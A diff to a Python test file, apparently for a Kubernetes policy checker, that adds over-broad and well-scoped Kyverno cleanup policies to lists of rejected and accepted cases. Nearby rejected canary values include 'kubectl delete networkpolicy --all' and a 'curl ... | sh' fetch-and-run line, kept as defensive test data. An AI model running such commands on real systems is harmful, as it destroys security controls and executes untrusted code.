@@ -47,6 +47,14 @@ def modify(field: str, value: str, operation: str = "addOrReplace") -> dict[str,
     return {"policyRule": {"then": {"effect": "modify", "details": {"operations": operations}}}}
 
 
+ENDED = {"key": "{{ target.status.phase }}", "operator": "Equals", "value": "Succeeded"}
+
+
+def cleanup(kinds: list[str], *conditions: Mapping[str, object]) -> dict[str, dict[str, object]]:
+    match = {"any": [{"resources": {"kinds": kinds}}]}
+    return {"spec": {"schedule": "0 3 * * *", "match": match, "conditions": {"all": list(conditions)}}}
+
+
 RULE = "urn:csci:microsoft:networkSecurityGroup:securityRule/1.1"
 DEFINITION = "azure-native:authorization:PolicyDefinition"
 BAD = [
@@ -69,6 +77,23 @@ BAD = [
     (f"{NEW_KYVERNO}NamespacedMutatingPolicy", {"spec": {}}),
     (f"{NEW_KYVERNO}DeletingPolicy", {"spec": {}}),
     (f"{KYVERNO}ClusterCleanupPolicy", {"spec": {}}),
+    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"])),
+    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod", "NetworkPolicy"], ENDED)),
+    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["*"], ENDED)),
+    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], {**ENDED, "value": ["Succeeded", "Running"]})),
+    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], {**ENDED, "operator": "NotEquals"})),
+    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], {**ENDED, "key": "{{ target.metadata.name }}"})),
+    (f"{KYVERNO}ClusterCleanupPolicy", {"spec": {**cleanup(["Pod"], ENDED)["spec"], "conditions": {"any": [ENDED]}}}),
+    (f"{KYVERNO}ClusterCleanupPolicy", {"spec": {"match": {}, "conditions": {"all": [ENDED]}}}),
+    (
+        f"{KYVERNO}ClusterCleanupPolicy",
+        {
+            "spec": {
+                "match": {"any": [{"resources": {"kinds": ["Pod"]}}, {"subjects": []}]},
+                "conditions": {"all": [ENDED]},
+            }
+        },
+    ),
     ("kubernetes:config.gatekeeper.sh/v1alpha1:Config", {"spec": {"match": [{"excludedNamespaces": ["*"]}]}}),
     (CANARY, canary("kubectl delete networkpolicy --all")),
     (CANARY, canary("curl -s http://x/ | sh")),
@@ -86,6 +111,8 @@ GOOD = [
         "policyRefs": [{"name": "p", "kind": "ValidatingPolicy"}],
         "matchConditions": [{"name": "n", "expression": "object.metadata.name == 'collector'"}]}}),
     (f"{NEW_KYVERNO}ValidatingPolicy", {"spec": {}}),
+    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], ENDED)),
+    (f"{KYVERNO}CleanupPolicy", cleanup(["Pod"], {**ENDED, "operator": "AnyIn", "value": ["Succeeded", "Failed"]})),
     (POLICY, generated("NetworkPolicy", {"podSelector": {}, "policyTypes": ["Ingress"]}, NETWORKING, synchronize=True)),
     (POLICY, generated("ResourceQuota", {"hard": {"pods": "10"}})),
     (POLICY, generated("LimitRange", {"limits": []})),
